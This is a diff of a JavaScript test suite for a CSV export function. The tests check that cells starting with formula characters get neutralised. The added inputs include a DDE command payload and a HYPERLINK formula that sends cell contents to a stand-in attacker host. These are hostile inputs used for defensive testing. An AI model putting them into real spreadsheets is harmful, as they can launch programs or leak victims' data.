@@ -15,13 +15,26 @@ it('is UTF-8 with its mark, ends lines with CRLF, and quotes what needs it', () 
   expect(writeCsv(COLUMNS, [])).toBe('\ufeffName,Late by (min)\r\n')
 })
 
-it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '=cmd|"/c calc"!A0'])(
-  'defuses %j, which a sheet would reckon',
-  (name) => {
-    const [, cell = ''] = writeCsv(COLUMNS, [{ name, by: 1 }]).split(/\r\n(.*)/su)
-    expect(cell.replace(/^"/, '').startsWith("'")).toBe(true)
-  },
-)
+it.each([
+  '=1+1',
+  '+1',
+  '-1',
+  '@SUM(A1)',
+  '\t=1',
+  '\r=1',
+  '\n=1',
+  '=cmd|"/c calc"!A0',
+  '=1+1\n',
+  '=1+1\r2',
+  '+1\n2',
+  '-1\n2',
+  '@x\u2028y',
+  '=A1\u2029',
+  '=HYPERLINK("https://evil.example/?"&A1,\r\n"open")',
+])('defuses %j, which a sheet would reckon', (name) => {
+  const [, cell = ''] = writeCsv(COLUMNS, [{ name, by: 1 }]).split(/\r\n(.*)/su)
+  expect(cell.replace(/^"/, '').startsWith("'")).toBe(true)
+})
 
 it('leaves numbers numbers', () => {
   expect(writeCsv(COLUMNS, [{ name: 'a', by: -5 }])).toContain('a,-5')
